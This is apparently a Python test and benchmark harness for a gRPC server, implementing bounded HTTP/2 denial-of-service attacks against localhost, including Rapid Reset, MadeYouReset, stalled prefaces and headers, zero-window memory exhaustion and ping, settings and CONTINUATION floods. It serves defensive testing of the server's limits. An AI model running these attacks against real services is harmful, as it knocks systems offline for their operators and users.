"""HTTP/2 attacks on a gRPC server, for tests/attacks.rs and bench/attacks.sh.

usage: attack.py ATTACK --port PORT [--host 127.0.0.1] [--source 127.0.0.2]
                 [--connections N] [--duration SECONDS]

Each attack runs from --source for --duration seconds (every loop here is
bounded by that deadline and by a count) and prints one JSON object on
stdout:

  connections       connections opened
  refused           connections the server closed before we sent anything
  closed_by_server  connections the server closed (EOF or reset) during the run
  goaway            {error code name: count} of GOAWAY frames received
  rst               {error code name: count} of RST_STREAM frames received
  streams           streams the attacker opened

Frames are built with hyperframe and header blocks with hpack (the libraries
under Python's h2), written on plain sockets: an attacker does not follow
the protocol, so h2's own state machine would refuse to send most of this.
"""
import argparse
import json
import selectors
import socket
import struct
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERROR_CODES = {
    0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
    4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM",
    8: "CANCEL", 9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM",
    12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED",
}
HELLO = "/packages.GreetService/sayHello"
ITER = "/packages.MessageService/iter_message"


def grpc_message(payload=b"", announced=None):
    """A gRPC length-prefixed message; `announced` overrides the length."""
    length = len(payload) if announced is None else announced
    return struct.pack(">BI", 0, length) + payload


class Conn:
    """One attacker connection: a socket, its HPACK encoder, what came back."""

    def __init__(self, args, report):
        self.report = report
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        if args.recv_buffer:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, args.recv_buffer)
        self.sock.bind((args.source, 0))
        self.sock.settimeout(5)
        self.sock.connect((args.host, args.port))
        self.sock.setblocking(False)
        self.encoder = Encoder()
        self.inbox = b""
        self.closed = False
        self.next_stream = 1
        # SETTINGS are acknowledged only between frames of a connection
        # that sent the whole preface.
        self.acknowledge = False
        report["connections"] += 1

    def send(self, data):
        """Writes what the socket takes now; False once the peer is gone."""
        if self.closed:
            return False
        try:
            self.sock.settimeout(2)
            self.sock.sendall(data)
            return True
        except socket.timeout:
            return True  # the server stopped reading: a stall is no error
        except OSError:
            self.mark_closed()
            return False
        finally:
            self.sock.setblocking(False)

    def send_frames(self, *frames):
        return self.send(b"".join(frame.serialize() for frame in frames))

    def handshake(self, window=None):
        settings = SettingsFrame(0)
        if window is not None:
            settings.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = window
        self.acknowledge = True
        return self.send(PREFACE + settings.serialize())

    def headers_block(self, path, end_stream=False):
        block = self.encoder.encode([
            (":method", "POST"), (":scheme", "http"), (":path", path),
            (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers"),
        ])
        stream = self.next_stream
        self.next_stream += 2
        self.report["streams"] += 1
        flags = ["END_HEADERS"] + (["END_STREAM"] if end_stream else [])
        return stream, HeadersFrame(stream, block, flags=flags)

    def mark_closed(self):
        if not self.closed:
            self.closed = True
            self.report["closed_by_server"] += 1

    def pump(self):
        """Reads what has arrived and counts GOAWAY/RST; ACKs SETTINGS."""
        while not self.closed:
            try:
                data = self.sock.recv(65536)
            except BlockingIOError:
                break
            except OSError:
                self.mark_closed()
                break
            if not data:
                self.mark_closed()
                break
            self.inbox += data
        acks = []
        while len(self.inbox) >= 9:
            length = int.from_bytes(self.inbox[:3], "big")
            if len(self.inbox) < 9 + length:
                break
            kind, flags = self.inbox[3], self.inbox[4]
            payload = self.inbox[9:9 + length]
            self.inbox = self.inbox[9 + length:]
            if kind == 0x7:  # GOAWAY
                self.count("goaway", int.from_bytes(payload[4:8], "big"))
            elif kind == 0x3:  # RST_STREAM
                self.count("rst", int.from_bytes(payload[:4], "big"))
            elif kind == 0x4 and not flags & 0x1 and self.acknowledge:  # SETTINGS, not an ACK
                acks.append(SettingsFrame(0, flags=["ACK"]))
        if acks:
            self.send_frames(*acks)

    def count(self, what, code):
        name = ERROR_CODES.get(code, str(code))
        self.report[what][name] = self.report[what].get(name, 0) + 1

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def open_one(args, report, setup):
    """A new connection with `setup(conn)` done; None if refused."""
    try:
        conn = Conn(args, report)
    except OSError:
        report["refused"] += 1
        return None
    if setup:
        setup(conn)
    return conn


def reopen(args, report, setup):
    """What `watch` calls to replace a closed connection (--reconnect)."""
    if not args.reconnect:
        return None
    return lambda: open_one(args, report, setup)


def open_conns(args, report, deadline, setup=None):
    conns = []
    for _ in range(args.connections):
        if time.monotonic() >= deadline:
            break
        conn = open_one(args, report, setup)
        if conn:
            conns.append(conn)
    return conns


def watch(conns, deadline, step=None, reopen=None):
    """Until `deadline`: pump every connection as data arrives, calling
    `step(conn)` for each open one between rounds (the attack's next move).
    With --reconnect, `reopen()` replaces each connection the server closes
    (bench/attacks.sh keeps the pressure on for its 15 s)."""
    selector = selectors.DefaultSelector()
    for conn in conns:
        selector.register(conn.sock, selectors.EVENT_READ, conn)
    rounds = 0
    reopened = 0
    while time.monotonic() < deadline and rounds < 10_000_000:
        rounds += 1
        timeout = 0 if step else max(0.0, min(0.05, deadline - time.monotonic()))
        for key, _ in selector.select(timeout):
            conn = key.data
            conn.pump()
            if conn.closed:
                selector.unregister(conn.sock)
                conn.close()
                if reopen and reopened < 1_000_000:
                    reopened += 1
                    new = reopen()
                    if new:
                        conns.append(new)
                        selector.register(new.sock, selectors.EVENT_READ, new)
        if step:
            if len(conns) > 4 * max(1, len(selector.get_map())):
                conns[:] = [conn for conn in conns if not conn.closed]
            live = [conn for conn in conns if not conn.closed]
            if not live:
                time.sleep(max(0.0, min(0.05, deadline - time.monotonic())))
            for conn in live:
                step(conn)
    selector.close()


# --- Issue 12 item 1: lockout by connections that stall -----------------------

def open_header_block(conn):
    """Handshake, then a HEADERS frame without END_HEADERS (the block left
    open; the server's frames no longer acknowledged). Returns its stream."""
    conn.handshake()
    _, headers = conn.headers_block(HELLO)
    headers.flags.discard("END_HEADERS")
    conn.send_frames(headers)
    conn.acknowledge = False
    return headers.stream_id


def attack_stall_preface(args, report, deadline):
    """Connections that stop half-way through the HTTP/2 preface."""
    def setup(conn):
        conn.send(PREFACE[:10])

    conns = open_conns(args, report, deadline, setup)
    watch(conns, deadline, None, reopen(args, report, setup))
    return conns


def attack_stall_headers(args, report, deadline):
    """Connections that start a HEADERS block and never finish it."""
    conns = open_conns(args, report, deadline, open_header_block)
    watch(conns, deadline, None, reopen(args, report, open_header_block))
    return conns


def attack_idle_connections(args, report, deadline):
    """Connections that complete the handshake and then send nothing."""
    def setup(conn):
        conn.handshake()

    conns = open_conns(args, report, deadline, setup)
    watch(conns, deadline, None, reopen(args, report, setup))
    return conns


def attack_idle_streams(args, report, deadline):
    """Connections that open two unary streams and never send the request."""
    def setup(conn):
        conn.handshake()
        conn.send_frames(conn.headers_block(HELLO)[1], conn.headers_block(HELLO)[1])

    conns = open_conns(args, report, deadline, setup)
    watch(conns, deadline, None, reopen(args, report, setup))
    return conns


# --- Item 2: MadeYouReset (CVE-2025-8671) and Rapid Reset (CVE-2023-44487) ---

def attack_made_you_reset(args, report, deadline):
    """Requests each followed by a stream WINDOW_UPDATE that overflows the
    window: the server must reset the stream (FLOW_CONTROL_ERROR) itself."""
    def setup(conn):
        conn.handshake()

    conns = open_conns(args, report, deadline, setup)

    def step(conn):
        frames = []
        for _ in range(20):
            if conn.next_stream >= 2**31 - 2:
                return
            stream, headers = conn.headers_block(HELLO)
            frames += [headers, DataFrame(stream, grpc_message(), flags=["END_STREAM"]),
                       WindowUpdateFrame(stream, 2**31 - 1), WindowUpdateFrame(stream, 2**31 - 1)]
        conn.send_frames(*frames)

    watch(conns, deadline, step, reopen(args, report, setup))
    return conns


def attack_rapid_reset(args, report, deadline):
    """Requests each cancelled by the client at once."""
    def setup(conn):
        conn.handshake()

    conns = open_conns(args, report, deadline, setup)

    def step(conn):
        frames = []
        for _ in range(20):
            stream, headers = conn.headers_block(HELLO)
            frames += [headers, RstStreamFrame(stream, error_code=8)]
        conn.send_frames(*frames)

    watch(conns, deadline, step, reopen(args, report, setup))
    return conns


# --- Item 4: memory ----------------------------------------------------------

def varint(n):
    out = b""
    while True:
        byte, n = n & 0x7F, n >> 7
        if n:
            out += bytes([byte | 0x80])
        else:
            return out + bytes([byte])


def zero_window_machines(args, report, deadline):
    """--connections connections, each with an h2 state machine that
    announced a receive window of 0 (the server can send no DATA)."""
    from h2.config import H2Configuration
    from h2.connection import H2Connection
    from h2.settings import SettingCodes

    machines = []
    for conn in open_conns(args, report, deadline):
        machine = H2Connection(H2Configuration(client_side=True, header_encoding="utf-8"))
        machine.initiate_connection()
        machine.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 0})
        machine.pending = {}  # stream id -> bytes still to send
        machine.opened = 0
        machine.full = False  # at the server's concurrent-stream limit
        machines.append((conn, machine))
        conn.send(machine.data_to_send())
    return machines


def receive(conn, machine, report):
    """Feeds what arrived to the machine: GOAWAY and RST_STREAM counted,
    streams that ended or were reset dropped from `pending`, grpc-status
    of answers counted in report["answered"]. False once closed."""
    from h2.events import ConnectionTerminated, StreamEnded, StreamReset

    try:
        data = conn.sock.recv(65536)
        if not data:
            conn.mark_closed()
            return False
        for event in machine.receive_data(data):
            if isinstance(event, ConnectionTerminated):
                conn.count("goaway", event.error_code)
            elif isinstance(event, StreamReset):
                conn.count("rst", event.error_code)
                machine.pending.pop(event.stream_id, None)
            elif isinstance(event, StreamEnded):
                machine.pending.pop(event.stream_id, None)
            for name, value in getattr(event, "headers", None) or []:
                if name == "grpc-status" and "answered" in report:
                    report["answered"][value] = report["answered"].get(value, 0) + 1
    except BlockingIOError:
        pass
    except Exception:  # the server closed or refused: counted below
        conn.mark_closed()
        return False
    return True


def open_stream(machine, report, path, message):
    """Opens a stream for `path` whose request is `message` (sent as the
    window allows, by `send_pending`); at the server's stream limit, marks
    the machine full instead."""
    headers = [(":method", "POST"), (":scheme", "http"), (":path", path),
               (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
    try:
        stream = machine.get_next_available_stream_id()
        machine.send_headers(stream, headers)
    except Exception:  # over the server's concurrent streams
        machine.full = True
        return
    machine.full = False
    machine.pending[stream] = message
    machine.opened += 1
    report["streams"] += 1


def send_pending(machine, end_stream):
    """Sends what the window allows of each pending request (ending the
    stream with its last byte if `end_stream`). True if anything went."""
    sent = False
    for stream, rest in list(machine.pending.items()):
        try:
            window = min(machine.local_flow_control_window(stream),
                         machine.max_outbound_frame_size)
            if window > 0:
                chunk, rest = rest[:window], rest[window:]
                machine.send_data(stream, chunk, end_stream=end_stream and not rest)
                sent = True
        except Exception:  # the stream (or the connection) is closed
            machine.pending.pop(stream, None)
            continue
        if rest:
            machine.pending[stream] = rest
        else:
            del machine.pending[stream]
    return sent


def wait_for_data(machines):
    """Nothing to send: waits (at most 50 ms) for the server to send
    something on any open connection."""
    socks = [conn.sock for conn, _ in machines if not conn.closed]
    if socks:
        selector = selectors.DefaultSelector()
        for sock in socks:
            selector.register(sock, selectors.EVENT_READ)
        selector.select(0.05)
        selector.close()


def attack_zero_window(args, report, deadline):
    """A receive window of 0, then bidi streams each sending one START
    message of --message-size bytes (within the server's flow control, with
    h2's state machine): the server can never send its reply, so whatever
    it keeps for a stream stays until the stream ends."""
    body = b"\x22" + varint(args.message_size) + b"x" * args.message_size
    message = grpc_message(body)
    machines = zero_window_machines(args, report, deadline)
    rounds = 0
    while time.monotonic() < deadline and rounds < 1_000_000:
        rounds += 1
        busy = False
        for conn, machine in machines:
            if conn.closed or not receive(conn, machine, report):
                continue
            if machine.opened < args.streams and len(machine.pending) < 8:
                open_stream(machine, report, ITER, message)
            busy |= send_pending(machine, end_stream=False)
            out = machine.data_to_send()
            if out:
                conn.send(out)
        if not busy:
            wait_for_data(machines)
    return [conn for conn, _ in machines]


def attack_large_response(args, report, deadline):
    """A receive window of 0, then up to --streams sayHello calls per
    connection, each with a --message-size name (so a reply as large), at
    most 8 unanswered sends at a time; the replies are never read: whatever
    the server keeps for a reply it cannot send stays until the stream or
    the connection ends. Ends early once the server closed every connection,
    or (--until-sent) once every call is sent."""
    body = b"\x0a" + varint(args.message_size) + b"x" * args.message_size
    message = grpc_message(body)
    machines = zero_window_machines(args, report, deadline)
    report["answered"] = {}
    rounds = 0
    while time.monotonic() < deadline and rounds < 1_000_000:
        if machines and all(conn.closed for conn, _ in machines):
            break  # the server closed every connection: nothing more to try
        if args.until_sent and all((machine.opened >= args.streams or machine.full)
                                   and not machine.pending
                                   for conn, machine in machines if not conn.closed):
            break  # every call sent: what the server keeps now, it keeps
        rounds += 1
        busy = False
        for conn, machine in machines:
            if conn.closed or not receive(conn, machine, report):
                continue
            if machine.state_machine.state.name == "CLOSED":  # a GOAWAY came
                conn.mark_closed()
                continue
            if machine.opened < args.streams and len(machine.pending) < 8:
                open_stream(machine, report, HELLO, message)
                busy = True
            busy |= send_pending(machine, end_stream=True)
            out = machine.data_to_send()
            if out:
                conn.send(out)
        if not busy:
            wait_for_data(machines)
    return [conn for conn, _ in machines]


def attack_announced_length(args, report, deadline):
    """Streams that announce a message of --announce bytes and send 5."""
    def setup(conn):
        conn.handshake()
        frames = []
        for _ in range(args.streams):
            stream, headers = conn.headers_block(ITER)
            frames += [headers, DataFrame(stream, grpc_message(announced=args.announce))]
        conn.send_frames(*frames)

    conns = open_conns(args, report, deadline, setup)
    watch(conns, deadline, None, reopen(args, report, setup))
    return conns


def attack_ping_flood(args, report, deadline):
    """PINGs as fast as the socket takes them (h2 answers each)."""
    def setup(conn):
        conn.handshake()

    conns = open_conns(args, report, deadline, setup)

    def step(conn):
        conn.send_frames(*[PingFrame(0, opaque_data=b"12345678") for _ in range(100)])

    watch(conns, deadline, step, reopen(args, report, setup))
    return conns


def attack_settings_flood(args, report, deadline):
    """SETTINGS frames (each one a setting h2 must apply and acknowledge) as
    fast as the socket takes them."""
    def setup(conn):
        conn.handshake()

    conns = open_conns(args, report, deadline, setup)

    def step(conn):
        frames = []
        for i in range(100):
            settings = SettingsFrame(0)
            settings.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = 65535 + (i % 2)
            frames.append(settings)
        conn.send_frames(*frames)

    watch(conns, deadline, step, reopen(args, report, setup))
    return conns


def attack_continuation_flood(args, report, deadline):
    """A HEADERS frame followed by endless CONTINUATION frames."""
    def setup(conn):
        conn.stream = open_header_block(conn)

    conns = open_conns(args, report, deadline, setup)

    def step(conn):
        conn.send_frames(*[ContinuationFrame(conn.stream, b"\x40\x01a\x01b") for _ in range(100)])

    watch(conns, deadline, step, reopen(args, report, setup))
    return conns


ATTACKS = {
    "stall-preface": attack_stall_preface,
    "stall-headers": attack_stall_headers,
    "idle-connections": attack_idle_connections,
    "idle-streams": attack_idle_streams,
    "made-you-reset": attack_made_you_reset,
    "rapid-reset": attack_rapid_reset,
    "zero-window": attack_zero_window,
    "large-response": attack_large_response,
    "announced-length": attack_announced_length,
    "ping-flood": attack_ping_flood,
    "settings-flood": attack_settings_flood,
    "continuation-flood": attack_continuation_flood,
}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--source", default="127.0.0.2")
    parser.add_argument("--connections", type=int, default=10)
    parser.add_argument("--streams", type=int, default=100)
    parser.add_argument("--announce", type=int, default=4 * 1024 * 1024)
    parser.add_argument("--message-size", type=int, default=1024 * 1024)
    parser.add_argument("--recv-buffer", type=int, default=0)
    parser.add_argument("--duration", type=float, default=2.0)
    parser.add_argument("--until-sent", action="store_true",
                        help="large-response: end once every call is sent")
    parser.add_argument("--reconnect", action="store_true",
                        help="replace each connection the server closes")
    args = parser.parse_args()
    report = {"attack": args.attack, "connections": 0, "refused": 0, "closed_by_server": 0,
              "goaway": {}, "rst": {}, "streams": 0}
    deadline = time.monotonic() + args.duration
    conns = ATTACKS[args.attack](args, report, deadline)
    for conn in conns:
        conn.close()
    json.dump(report, sys.stdout)
    print(flush=True)


if __name__ == "__main__":
    main()
